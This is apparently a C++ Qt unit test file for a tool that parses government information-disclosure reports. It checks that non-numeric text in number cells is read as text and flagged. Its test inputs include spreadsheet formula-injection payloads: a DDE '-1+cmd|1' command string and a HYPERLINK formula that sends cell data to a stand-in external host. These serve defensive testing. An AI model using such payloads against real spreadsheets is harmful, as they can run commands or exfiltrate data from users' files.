// SPDX-FileCopyrightText: 2026 The Gouji authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "effectivereport.h"
#include "intake.h"
#include "officefiles.h"
#include "sharedreports.h"

#include <QRegularExpression>
#include <QTest>

#include <array>
#include <tuple>

using namespace Qt::StringLiterals;
using namespace gouji;

namespace {

QString sampleHtml()
{
    QFile file(QStringLiteral(GOUJI_SAMPLES "/county_2024.html"));
    return file.open(QIODevice::ReadOnly) ? QString::fromUtf8(file.readAll()) : QString();
}

/// The sample with a text in the place of a cell's number, in one of the formats that have true tables.
QByteArray sampleWith(const QString &row, const QString &text, const QString &format)
{
    QString html = sampleHtml();
    const QString changed = QString(row).replace(u"@"_s, text.toHtmlEscaped());
    QString pattern = QRegularExpression::escape(row).replace(u"\\@"_s, u"[0-9.]+"_s);
    html.replace(QRegularExpression(pattern), changed);
    if (format == "html"_L1) {
        return html.toUtf8();
    }
    const Result<LoadedReport> loaded = loadReport(u"a.html"_s, html.toUtf8());
    return format == "docx"_L1 ? docx(asDocx(loaded->report.document())) : xlsx(asXlsx(loaded->report.document()));
}

} // namespace

/// What stands where the form wants a number and is none: it is read as text, and takes nothing else with it.
class TestNumberCells : public QObject
{
    Q_OBJECT

private slots:
    void text_data();
    void text();
    void rowOfTexts();
    void dump_data();
    void dump();
    void cases_data();
    void cases();
};

void TestNumberCells::text_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<QString>("row");
    QTest::addColumn<QString>("cell");
    QTest::addColumn<QString>("printed");
    QTest::addColumn<QString>("value");
    const std::array places{
        std::tuple{"first of a row", u"数量</td><td>@</td><td>17"_s, u"requests.new.natural"_s},
        std::tuple{"second of a row", u"<td>312</td><td>@</td>"_s, u"requests.new.business"_s},
        std::tuple{"last of a row", u"<td>@</td></tr>\n<tr><td colspan=\"3\">二"_s, u"requests.new.total"_s},
        std::tuple{"behind a group's head", u"1.属于国家秘密</td><td>@</td>"_s,
                   u"requests.denied.state_secret.natural"_s},
        std::tuple{"alone in its row", u"行政许可</td><td colspan=\"3\">@</td>"_s, u"proactive.license.handled"_s},
        std::tuple{"in the middle of three", u"行政规范性文件</td><td>6</td><td>@</td>"_s,
                   u"proactive.normative_docs.repealed"_s},
        std::tuple{"first of a line", u"<tr><td>@</td><td>3</td><td>2</td>"_s, u"remedies.review.upheld"_s},
        std::tuple{"inside a line", u"<td>12</td><td>@</td><td>2</td><td>4</td>"_s, u"remedies.review.corrected"_s}};
    const std::array texts{std::pair{u"null"_s, u""_s},
                           std::pair{u"Ⅻ"_s, u""_s},
                           std::pair{u"㈢"_s, u""_s},
                           std::pair{u"3abc0"_s, u""_s},
                           std::pair{u"壹佰"_s, u"100"_s},
                           std::pair{u"见附件"_s, u""_s},
                           std::pair{u"#REF!"_s, u""_s},
                           std::pair{u"@SUM(1,2)"_s, u""_s},
                           std::pair{u"-1+cmd|1"_s, u""_s},
                           std::pair{u"=HYPERLINK(\"http://x.example/?\"&A1,\"3\")"_s, u""_s},
                           std::pair{u"12\u202E34"_s, u""_s},
                           std::pair{u"312\uFFFD"_s, u"312"_s},
                           std::pair{u"数据待核实后另行公布"_s, u""_s}};
    for (const auto &[place, row, cell] : places) {
        for (const auto &[printed, value] : texts) {
            QTest::newRow(qPrintable(u"%1: %2"_s.arg(QString::fromLatin1(place), printed)))
                << u"html"_s << row << cell << printed << value;
        }
        for (const QString &format : {u"docx"_s, u"xlsx"_s}) {
            QTest::newRow(qPrintable(u"%1 of %2"_s.arg(QString::fromLatin1(place), format)))
                << format << row << cell << u"null"_s << QString();
        }
    }
}

void TestNumberCells::text()
{
    QFETCH(QString, format);
    QFETCH(QString, row);
    QFETCH(QString, cell);
    QFETCH(QString, printed);
    const Result<LoadedReport> sample = loadReport(u"a.html"_s, sampleHtml().toUtf8());
    const Result<LoadedReport> loaded = loadReport(u"a"_s, sampleWith(row, printed, format));
    QVERIFY(loaded && sample);
    const CellValue *read = loaded->report.cell(CellId(cell));
    QCOMPARE(statusName(read->status), u"text"_s);
    QCOMPARE(read->raw, printed);
    QTEST(read->value ? read->value->toString() : QString(), "value");
    for (const CellValue &other : sample->report.cells()) {
        if (other.id != read->id) {
            QCOMPARE(loaded->report.cell(other.id)->raw, other.raw);
        }
    }
    QCOMPARE(loaded->report.remarks, sample->report.remarks);
    const EffectiveReport snapshot = effective(*loaded);
    QVERIFY(std::any_of(snapshot.findings.begin(), snapshot.findings.end(), [read](const Finding &finding) {
        return finding.rule == "cell.text"_L1 && finding.cells.contains(read->id);
    }));
}

void TestNumberCells::rowOfTexts()
{
    QString html = sampleHtml();
    html.replace(u"<td>312</td><td>17</td><td>1</td><td>1</td><td>3</td><td>2</td><td>336</td>"_s,
                 u"<td>无数据</td>"_s.repeated(7));
    const Result<LoadedReport> loaded = loadReport(u"a.html"_s, html.toUtf8());
    QVERIFY(loaded);
    const FormTable *table = loaded->report.table(u"requests");
    for (const QString &column : table->row(u"new")->columns) {
        QCOMPARE(loaded->report.cell(CellId(table->id, u"new"_s, column))->raw, u"无数据"_s);
        QCOMPARE(loaded->report.cell(CellId(table->id, u"carried_in"_s, column))->status, CellStatus::Ok);
    }
}

void TestNumberCells::dump_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("raw");
    QTest::newRow("null") << u"规章 | 1 | null | 3 |"_s << u"null"_s;
    QTest::newRow("Roman numeral") << u"规章 | 1 | Ⅻ | 3 |"_s << u"Ⅻ"_s;
    QTest::newRow("words") << u"规章 | 1 | 见附件 | 3 |"_s << u"见附件"_s;
    QTest::newRow("formal numeral") << u"规章 | 1 | 壹佰 | 3 |"_s << u"壹佰"_s;
    QTest::newRow("a cell a line") << u"规章 |\n1 |\nnull |\n3 |"_s << u"null"_s;
    QTest::newRow("a formal numeral, a cell a line") << u"规章 |\n1 |\n壹佰 |\n3 |"_s << u"壹佰"_s;
}

void TestNumberCells::dump()
{
    QFETCH(QString, line);
    const QString text = u"二、主动公开政府信息情况\n第二十条第（一）项 |\n信息内容 | 本年制发件数 | 本年废止件数 | "
                         "现行有效件数 |\n%1\n行政规范性文件 | 6 | 4 | 83 |\n三、收到和处理政府信息公开申请情况\n"_s;
    const Result<LoadedReport> loaded = loadReport(u"a.txt"_s, text.arg(line).toUtf8());
    QVERIFY(loaded);
    QCOMPARE(loaded->report.cell(CellId(u"proactive.regulations.made"_s))->raw, u"1"_s);
    QTEST(loaded->report.cell(CellId(u"proactive.regulations.repealed"_s))->raw, "raw");
    QCOMPARE(loaded->report.cell(CellId(u"proactive.regulations.repealed"_s))->status, CellStatus::Text);
    QCOMPARE(loaded->report.cell(CellId(u"proactive.regulations.in_force"_s))->raw, u"3"_s);
    QCOMPARE(loaded->report.cell(CellId(u"proactive.normative_docs.made"_s))->raw, u"6"_s);
}

void TestNumberCells::cases_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("cell");
    QTest::addColumn<QString>("raw");
    QTest::addColumn<QString>("value");
    QTest::newRow("formal numeral") << u"text_cell_blank_fullnumeral.html"_s << u"requests.new.natural"_s << u"壹佰"_s
                                    << u"100"_s;
    QTest::newRow("null") << u"text_cell_blank_null.html"_s << u"requests.new.natural"_s << u"null"_s << QString();
    QTest::newRow("formulas") << u"formula.html"_s << u"requests.carried_in.business"_s << u"-1+cmd|1"_s << QString();
}

void TestNumberCells::cases()
{
    QFETCH(QString, file);
    QFETCH(QString, cell);
    const QString path = sharedReports().filePath(u"../cases/hostile/"_s + file);
    if (!QFile::exists(path)) {
        QSKIP("needs the hostile cases beside the project (or in GOUJI_SHARED)");
    }
    const Result<LoadedReport> loaded = loadReportFile(path);
    QVERIFY(loaded);
    const CellValue *read = loaded->report.cell(CellId(cell));
    QCOMPARE(statusName(read->status), u"text"_s);
    QTEST(read->raw, "raw");
    QTEST(read->value ? read->value->toString() : QString(), "value");
}

QTEST_APPLESS_MAIN(TestNumberCells)
#include "tst_numbercells.moc"
